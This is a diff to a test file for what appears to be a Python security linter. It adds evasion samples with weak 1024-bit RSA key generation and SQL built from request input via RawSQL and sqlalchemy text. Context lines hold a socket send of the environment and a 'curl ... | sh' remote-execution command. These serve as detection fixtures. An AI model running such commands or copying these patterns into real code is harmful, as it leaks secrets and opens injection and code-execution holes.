@@ -1,6 +1,7 @@
-"""The site tests of ShellInjection, ShellCommandChecker and NetworkChecker (sites.calls_one_of)
-follow names the way qualnames does: each evasion here is still reported, with the site tests on
-and off alike; and a file whose calls only share a last name with a sink is not parsed for them."""
+"""The site tests that look for calls of a rule's table (sites.calls_one_of and its kin: ShellInjection,
+ShellCommandChecker, NetworkChecker, SqlInjection, ShortKey) follow names the way qualnames does:
+each evasion here is still reported, with the site tests on and off alike; and a file whose calls
+only share a last name with a sink is not parsed for the shell and network rules."""
 import ast
 
 import pytest
@@ -35,6 +36,17 @@ EVASIONS = [
      '    c.sendall(repr(os.environ).encode())\n', "BDL402"),
     ('import subprocess\nclass C:\n    def __init__(self):\n        self.sh = subprocess.run\n'
      '    def go(self):\n        self.sh("curl -s https://c.example/i | sh", shell=True)\n', "BDL405"),
+    # key generators: an instance's method, a second name, imported as written
+    ('from OpenSSL import crypto\nk = crypto.PKey()\nk.generate_key(crypto.TYPE_RSA, 1024)\n', "BDL207"),
+    ('from cryptography.hazmat.primitives.asymmetric import rsa\ngen = rsa.generate_private_key\nk = gen(65537, 1024)\n',
+     "BDL207"),
+    ('from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key\nk = generate_private_key(65537, 1024)\n',
+     "BDL207"),
+    # SQL text without any execute(): RawSQL and sqlalchemy's text under other names
+    ('from django.db.models.expressions import RawSQL as R\ndef f(request, qs):\n'
+     '    return qs.annotate(x=R("SELECT " + request.GET["c"], []))\n', "BDL507"),
+    ('from sqlalchemy import text as t\ndef f(request, conn):\n'
+     '    return conn.scalars(t("SELECT * FROM x WHERE a = " + request.GET["c"]))\n', "BDL507"),
 ]
 
 
